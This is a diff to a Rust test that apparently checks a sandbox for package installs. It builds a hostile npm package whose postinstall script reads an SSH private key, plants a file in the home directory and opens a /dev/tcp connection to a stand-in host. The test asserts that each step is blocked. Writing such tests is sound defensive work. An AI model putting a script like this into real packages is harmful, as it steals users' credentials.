@@ -122,7 +122,7 @@ fn an_install_script_reads_no_secret_and_contacts_no_other_host() {
     fs::write(arena.path("home/.ssh/id_ed25519"), "the-private-key").unwrap();
     fs::create_dir_all(arena.path("package")).unwrap();
     let script = "touch ran; cat ~/.ssh/id_ed25519 > stolen; touch ~/planted; \
-        (exec 3<>/dev/tcp/other.example/443) && touch sent; true";
+        (exec 3<>/dev/tcp/other.example/443; read -r answer <&3 && touch answered); true";
     fs::write(arena.path("package/steal.sh"), script).unwrap();
     let manifest =
         r#"{"name":"hostile","version":"1.0.0","scripts":{"postinstall":"bash steal.sh"}}"#;
@@ -136,6 +136,7 @@ fn an_install_script_reads_no_secret_and_contacts_no_other_host() {
     let package = arena.path("w/node_modules/hostile");
     assert!(package.join("ran").exists(), "the script ran: {text}");
     assert_eq!(fs::read_to_string(package.join("stolen")).unwrap(), "");
-    assert!(!package.join("sent").exists() && !arena.path("home/planted").exists());
+    assert!(!package.join("answered").exists(), "a host answered");
+    assert!(!arena.path("home/planted").exists(), "the home directory is read-only");
     assert!(text.contains("refused: a connection to other.example:443"), "{text}");
 }
